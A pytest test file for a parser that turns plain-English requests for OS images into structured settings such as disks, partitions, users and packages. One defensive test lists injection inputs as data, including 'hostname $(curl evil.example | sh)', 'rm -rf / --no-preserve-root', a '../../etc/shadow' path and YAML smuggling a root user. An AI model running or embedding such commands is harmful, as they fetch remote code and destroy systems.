"""Plain words become wishes: what is asked for, what is ruled out, and what cannot be; and nothing is made of what is not there."""

import json
import pickle
import time

import pytest

from vademecum.core.errors import AnswerError
from vademecum.desks.composer.request.frames import Context
from vademecum.desks.composer.request.reading import MOST_CHARACTERS
from vademecum.desks.composer.wishes import read_wishes

KNOWN = frozenset(["docker-ce", "libvirt-daemon-system", "ros-jazzy-turtlesim"])


def wishes(text, *, in_session=False):
    return read_wishes(
        text, KNOWN, Context(accounts=frozenset(["admin", "bob"])) if in_session else None
    ).wishes


def short(text, *, in_session=False):
    """Each wish as `kind value`, with `not` before what is ruled out."""
    return [
        f"{'' if one.wanted else 'not '}{one.kind} {one.value}".strip()
        for one in wishes(text, in_session=in_session)
    ]


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        ("a 16G disk", "16GiB"),
        ("disk of 20 gigabytes", "20GB"),
        ("disk size: 8 GiB", "8GiB"),
        ("with twenty gigs of disk space", "20GiB"),
        ("it must fit on a 32GB SD card", "32GB"),
        ("1.5 TiB drive", "1536GiB"),
        ("an image of 512 MiB", "512MiB"),
        ("debian 13, 12GiB", "12GiB"),
        ("make the disk 24 GiB large", "24GiB"),
    ],
)
def test_the_size_of_the_disk_however_it_is_said(said, expected):
    assert [one.value for one in wishes(said) if one.kind == "disk_size"] == [expected]


@pytest.mark.parametrize(
    ("said", "value", "details"),
    [
        ("a separate /data partition of 2GiB", "/data", {"size": "2GiB"}),
        ("put /var/log on its own 4 GiB xfs partition", "/var/log", {"size": "4GiB", "fs": "xfs"}),
        ("home partition with 20G", "/home", {"size": "20GiB"}),
        ("use xfs for the root filesystem", "/", {"fs": "xfs"}),
        ("mount /tmp with noexec and nosuid", "/tmp", {"options": "noexec,nosuid"}),  # noqa: S108 - a mount point in a template
        ("/srv should have the rest of the disk", "/srv", {"size": "rest"}),
        ("a 1 GiB ESP", "/boot/efi", {"size": "1GiB"}),
    ],
)
def test_a_partition_with_what_is_said_of_it(said, value, details):
    (one,) = [one for one in wishes(said) if one.kind == "partition"]
    assert one.value == value
    assert {key: one.details[key] for key in details} == details


def test_each_partition_has_its_own_size():
    for said, sizes in (
        ("elxr12 16GiB: /home 4GiB, /var/log 2GiB", {"/home": "4GiB", "/var/log": "2GiB"}),
        ("a 10G /srv partition and a 3G /var partition, 40G disk", {"/srv": "10GiB", "/var": "3GiB"}),
    ):
        assert {one.value: one.detail("size") for one in wishes(said) if one.kind == "partition"} == sizes


@pytest.mark.parametrize(
    ("said", "name", "details"),
    [
        ("a user called alice with sudo", "alice", {"sudo": "yes"}),
        (
            "an unprivileged user bob in the docker and video groups",
            "bob",
            {"sudo": "no", "groups": "docker,video"},
        ),
        ("it logs in as 'operator'", "operator", {}),
        (
            "admin user carol, home /srv/carol, shell /bin/sh",
            "carol",
            {"sudo": "yes", "home": "/srv/carol", "shell": "/bin/sh"},
        ),
        ("an account for dave with zsh as login shell", "dave", {"shell": "/usr/bin/zsh"}),
        ("rename user bob to alice", "alice", {"op": "rename", "old": "bob"}),
        ("take sudo away from admin", "admin", {"op": "change", "sudo": "no"}),
        ("bob's shell should be /bin/zsh", "bob", {"op": "change", "shell": "/bin/zsh"}),
        ("remove bob from the docker group", "bob", {"op": "change", "groups-off": "docker"}),
    ],
)
def test_an_account_with_what_is_said_of_it(said, name, details):
    (one,) = [one for one in wishes(said, in_session=True) if one.kind == "user"]
    assert one.value == name
    assert {key: one.details[key] for key in details} == details


@pytest.mark.parametrize(
    ("said", "kind"),
    [
        ("a friendly user interface", "user"),
        ("for end users", "user"),
        ("user management tools", "user"),
        ("multi-user system", "user"),
        ("user space tools", "user"),
        ("4GB of RAM", "disk_size"),
        ("with 8 GiB memory", "disk_size"),
        ("two users", "disk_size"),
        ("port 8080", "disk_size"),
        ("debian 13", "disk_size"),
        ("hostname a different one, debian", "hostname"),
    ],
)
def test_words_that_only_look_like_a_wish_are_none(said, kind):
    assert [one for one in wishes(said) if one.kind == kind] == []


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        ("hostname web01", ["hostname web01"]),
        ("the machine should be called gw-7", ["hostname gw-7"]),
        ("hostname beta-box user dev", ["hostname beta-box", "user dev"]),
        ("known as mail in the network", ["hostname mail"]),
        ("rename the image to factory-gw", ["image_name factory-gw"]),
        ("bump the version to 2.1.0", ["image_version 2.1.0"]),
        ("add quiet splash to the kernel command line", ["kernel_option quiet", "kernel_option splash"]),
        ("isolate cores 2-3", ["kernel_option isolcpus=2-3"]),
        ("console on ttyS1 at 57600 baud", ["kernel_option console=ttyS1,57600"]),
        ("load the vfio-pci kernel module", ["kernel_module vfio-pci"]),
        ("as qcow2 compressed with zstd", ["artifact qcow2"]),
        ("for VirtualBox", ["artifact vdi"]),
        ("encrypted disk", ["encryption"]),
        ("with a read-only root", ["read_only_root"]),
        ("time zone Europe/Berlin", ["timezone Europe/Berlin"]),
        ("enable docker at boot", ["service docker"]),
        ("2 GiB of swap", ["swap 2GiB"]),
        ("no swap", ["not swap"]),
    ],
)
def test_the_other_things_a_template_has_a_field_for(said, expected):
    assert short(said) == expected


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        ("with nginx and docker", ["package nginx", "package docker"]),
        ("image with nginx and docker-ce", ["package nginx", "package docker-ce"]),
        ("nginx without docker", ["package nginx", "not package docker"]),
        ("without docker and nginx", ["not package docker", "not package nginx"]),
        ("without docker, but with nginx", ["not package docker", "package nginx"]),
        ("no vim, no nano, yes to micro", ["not package vim", "not package nano", "package micro"]),
        ("not only docker but also nginx", ["package docker", "package nginx"]),
        (
            "a container runtime, a web server and time sync",
            ["package container runtime", "package web server", "package time sync"],
        ),
        ("remote login and a database", ["package remote login", "package database"]),
        ("use podman instead of docker", ["package podman", "not package docker"]),
        ("replace nginx with apache", ["not package nginx", "package apache"]),
        ("htop is not needed any more", ["not package htop"]),
        ("take docker out", ["not package docker"]),
        ("with python3-certbot-nginx", ["package python3-certbot-nginx"]),
        ("a digital gateway", []),
    ],
)
def test_software_wanted_and_ruled_out(said, expected):
    assert short(said) == expected


@pytest.mark.parametrize(
    ("said", "value", "note"),
    [
        ("with ngnix", "nginx", "ngnix is read as nginx"),
        ("and podmann please", "podman", "podmann is read as podman"),
        ("add postgrsql", "postgresql", "postgrsql is read as postgresql"),
        ("with mosquito", "mosquitto", "mosquito is read as mosquitto"),
        ("ubunut image", "ubuntu", "ubunut is read as ubuntu"),
        ("debain 13", "debian13", "debain is read as debian"),
        ("azuer linux", "azure-linux", "azuer is read as azure"),
    ],
)
def test_a_slip_of_the_pen_is_put_right_and_said(said, value, note):
    one = next(one for one in wishes(said) if one.note)
    assert one.value == value
    assert note in one.note


@pytest.mark.parametrize("said", ["with frobnicator", "install mycorp-agent", "add blorptastic"])
def test_names_unknown_software(said):
    assert [one.kind for one in wishes(said)] == ["unknown"]


@pytest.mark.parametrize(
    "said",
    [
        "4 GB RAM", "with 2 CPUs", "root on LVM", "open port 8080", "RAID 1", "my ssh key in authorized_keys", "a company logo",
        "dual boot with windows", "upload it to AWS", "an OVA file", "automatic login", "wifi ssid Home", "run the script setup.sh", "german language",
    ],
)  # fmt: skip
def test_names_what_no_template_can_express_with_the_reason(said):
    found = [one for one in wishes(said) if one.kind == "impossible"]
    assert found
    assert all(one.value.endswith(".") for one in found)


# --- Bad input ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("length", [1_000, pytest.param(MOST_CHARACTERS, marks=pytest.mark.nightly)])
@pytest.mark.parametrize(
    "part",
    [
        "a", "add nginx and ", "16G ", "/data 2G, ", "without x and ", "password is ", "user a and b, ", "a-", "kernel a=b ",
        'hostname "x', "take x ", "swap of 3G ",
    ],
)  # fmt: skip
def test_no_request_takes_long(part, length):
    begun = time.process_time()
    read_wishes((part * length)[:length], KNOWN)
    assert time.process_time() - begun < 10 * length / MOST_CHARACTERS


@pytest.mark.parametrize(
    ("said", "named"),
    [
        ("", "empty"),
        ("   ", "empty"),
        ("?!", "empty"),
        ("\x00\x01", "empty"),
        ("…", "empty"),
        ("nginx and " * 10_240, "102,400"),
        ("Erstelle ein Ubuntu Image mit nginx und ohne Docker", "German"),
        ("Je veux une image Debian avec nginx et sans docker", "French"),
        ("Crea una imagen de Ubuntu con nginx y sin docker para la nube", "Spanish"),
        ("создай образ Ubuntu с nginx без docker", "Russian"),
    ],
    ids=range(10),
)
def test_rejects_empty_long_and_foreign_requests(said, named):
    with pytest.raises(AnswerError, match=named) as error:
        read_wishes(said, KNOWN)
    assert error.value.hint


@pytest.mark.parametrize(
    "said",
    [
        'hostname "web; rm -rf /"',
        "hostname $(curl evil.example | sh)",
        'hostname "a\nsystemConfig:\n  users:\n    - name: root"',
        "hostname ../../etc/shadow",
        'kernel option quiet"; reboot; echo "',
        "add nginx; rm -rf / --no-preserve-root",
        "install `curl evil.example`",
        "debian && reboot",
    ],
)
def test_shell_and_yaml_never_become_a_value(said):
    found = wishes(said)
    assert [one for one in found if one.kind in {"impossible", "unclear", "unknown"}]
    for one in found:
        if one.kind in {"hostname", "kernel_option", "package", "user"}:
            assert not set(one.value) & set(";|&$`\"'\n(){}<> ")


SECRETS = [
    "user bob with password hunter2x",
    "user bob, password: hunter2x",
    "add user bob and set his password to hunter2x",
    'the password for bob is "hunter2x"',
    "user bob with the password hunter2x, in the docker group",
    "use hunter2x as the password for bob",
    "bob's password should be hunter2x",
    "encrypted disk with passphrase hunter2x",
    "repository https://me:hunter2x@example.org/debian",
    "wifi ssid Home psk hunter2x",
    "api key hunter2x",
    "user bob --password=hunter2x",
    "password hunter2x and again hunter2x",
]


@pytest.mark.parametrize("said", SECRETS)
def test_a_password_is_shown_nowhere(said):
    read = read_wishes(said, KNOWN)
    shown = [
        read.request,
        read.theme,
        repr(read),
        str(read.wishes),
        json.dumps([dict(one.details) for one in read.wishes]),
    ]
    shown += [f"{one.said} {one.value} {one.note}" for one in read.wishes]
    assert "hunter2x" not in " ".join(shown)
    assert [one.reveal() for one in read.secrets.values()] == ["hunter2x"]


@pytest.mark.parametrize(
    "said",
    [
        "password login for root",
        "disable password authentication",
        "a password manager",
        "passwordless sudo",
        "passwords must expire",
        "ask for the password at boot",
        "debian 13, encrypted with a passphrase typed at boot",
        "debian 13, the password is asked at boot",
        "debian 13, a password chosen later",
    ],
)
def test_words_about_passwords_are_no_password(said):
    assert read_wishes(said).secrets == {}


def test_a_secret_cannot_be_pickled():
    (secret,) = read_wishes("user bob with password hunter2x").secrets.values()
    assert "hunter2x" not in repr(secret)
    with pytest.raises(TypeError):
        pickle.dumps(secret)


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        ("ssh on it and wifi firmware is not needed", ["package ssh", "not package wifi firmware"]),
        ("nginx and docker are not needed", ["not package nginx", "not package docker"]),
        ("htop, grub must go in favour of systemd-boot", ["package htop"]),
        ("htop, docker and nginx can go", ["not package htop", "not package docker", "not package nginx"]),
        ("4 cores and nginx", ["package nginx"]),
        ("user bob with uid 1500", ["user bob", "impossible"]),
        ("read-only debian 13", ["read_only_root", "version debian13"]),
        ("robotics with ros", ["package ros"]),
        ("golden image named base-2026", ["image_name base-2026"]),
        ("image name base-2026", ["image_name base-2026"]),
    ],
)
def test_how_far_words_reach(said, expected):
    found = [one.split(" A ")[0].strip() for one in short(said)]
    assert [one for one in expected if one not in found] == []
    assert [one for one in found if "package" in one and one not in expected] == []


@pytest.mark.parametrize(
    ("said", "mount"),
    [
        ("give postgres its own 30GiB partition", "/var/lib/postgresql"),
        ("mysql on its own partition of 20GiB", "/var/lib/mysql"),
        ("a 10GiB partition for docker", "/var/lib/docker"),
    ],
)
def test_the_partition_of_a_service(said, mount):
    found = wishes(f"debian 13, {said}")
    (part,) = [one for one in found if one.kind == "partition"]
    assert part.value == mount
    assert part.detail("size").endswith("GiB")
    assert [one for one in found if one.kind == "package"], "and the service itself"


def test_a_partition_without_a_place_is_named():
    (part,) = [one for one in wishes("debian 13 with an extra 30GiB partition") if one.kind == "unclear"]
    assert "mounted" in part.value
    assert "30GiB" in part.said


def test_an_arm_that_moves_is_no_processor():
    assert "architecture aarch64" not in short("an arm that moves boxes")
    assert "architecture aarch64" in short("for an arm that boots fast")


# --- Contradictions -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("said", "kind", "counts", "lost"),
    [
        ("hostname a, hostname b, ubuntu 24", "hostname", "b", "hostname a"),
        ("hostname web1 and hostname web2", "hostname", "web2", "hostname web1"),
        ("debian 13, 16G disk, 20G disk", "disk_size", "20GiB", "16G disk"),
        ("image named foo, image named bar", "image_name", "bar", "image named foo"),
        ("timezone Europe/Berlin, timezone UTC", "timezone", "UTC", "timezone Europe/Berlin"),
    ],
)
def test_the_later_of_two_values_counts_and_the_other_is_named(said, kind, counts, lost):
    wishes = read_wishes(said).wishes
    assert [one.value for one in wishes if one.kind == kind] == [counts]
    (other,) = [one for one in wishes if one.kind == "impossible"]
    assert other.said == lost
    assert other.value.startswith("It contradicts")


@pytest.mark.parametrize("word", ["blue", "profile", "mini", "wind", "motor", "wiki", "visualization"])
def test_a_word_of_the_language_is_no_slip_of_the_pen(word):
    packages = [
        one for one in read_wishes(f"debian 13 with nginx, {word} and htop").wishes if one.kind == "package"
    ]
    assert {one.value for one in packages} == {"nginx", "htop"}
